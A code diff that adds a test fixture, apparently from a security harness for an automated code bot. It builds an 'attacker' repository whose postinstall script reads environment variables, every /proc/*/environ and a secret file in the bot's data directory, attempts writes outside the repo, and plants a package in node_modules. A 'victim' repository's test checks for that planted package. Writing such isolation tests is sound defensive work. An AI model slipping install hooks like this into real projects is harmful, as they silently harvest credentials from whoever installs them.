@@ -354,3 +354,38 @@ export function pyForgedTrace(victim: string): RepoSpec {
     },
   };
 }
+
+/**
+ * Two repositories with the same package.json and package-lock.json (no dependencies): the
+ * attacker's root postinstall plants a package in node_modules (with what it could read:
+ * the environment, /proc/*\/environ, the bot's data dir) and tries writes outside; the
+ * victim's own plant.cjs is empty, and a test of its fails if the planted package is there.
+ */
+export function jsCachePoison(role: "attacker" | "victim"): RepoSpec {
+  const attacker = [
+    'const fs = require("node:fs");',
+    'const path = require("node:path");',
+    'const conf = JSON.parse(fs.readFileSync(path.join(__dirname, "rtconf.json"), "utf8"));',
+    "const tryRead = (p) => { try { return fs.readFileSync(p, \"latin1\"); } catch (e) { return `UNREADABLE ${e.code}`; } };",
+    "const environ = {};",
+    'for (const pid of fs.readdirSync("/proc").filter((n) => /^\\d+$/.test(n))) environ[pid] = tryRead(`/proc/${pid}/environ`);',
+    "const writes = {};",
+    "for (const p of [path.join(conf.sentinel, \"victim.txt\"), path.join(conf.data_dir, \"rt-secret.txt\"), path.join(conf.loot, \"install-loot.txt\")]) { try { fs.appendFileSync(p, \"planted by an install script\\n\"); writes[p] = \"WROTE\"; } catch (e) { writes[p] = e.code; } }",
+    'const dir = path.join(__dirname, "node_modules", "rt-planted");',
+    "fs.mkdirSync(dir, { recursive: true });",
+    'fs.writeFileSync(path.join(dir, "index.js"), "module.exports = \\"planted by the attacker\\";\\n");',
+    'fs.writeFileSync(path.join(dir, "stolen.json"), JSON.stringify({ env: process.env, environ, data_dir: tryRead(path.join(conf.data_dir, "rt-secret.txt")), writes }));',
+    "",
+  ].join("\n");
+  const probe = 'const test = require("node:test");\nconst assert = require("node:assert");\nconst fs = require("node:fs");\nconst path = require("node:path");\n\ntest("no planted package", () => {\n  const p = path.join(__dirname, "..", "node_modules", "rt-planted", "index.js");\n  assert.ok(!fs.existsSync(p), `PLANTED-FROM-CACHE ${fs.existsSync(p) ? fs.readFileSync(p, "utf8").trim() : ""}`);\n});\n';
+  return {
+    source: "calc.js",
+    files: {
+      ...JS_BUG,
+      "package.json": '{ "name": "rt-shared", "version": "1.0.0", "private": true, "scripts": { "test": "node --test", "postinstall": "node plant.cjs" } }\n',
+      "package-lock.json": '{ "name": "rt-shared", "version": "1.0.0", "lockfileVersion": 3, "requires": true, "packages": { "": { "name": "rt-shared", "version": "1.0.0" } } }\n',
+      "plant.cjs": role === "attacker" ? attacker : "// nothing to do\n",
+      "test/probe.test.js": probe,
+    },
+  };
+}
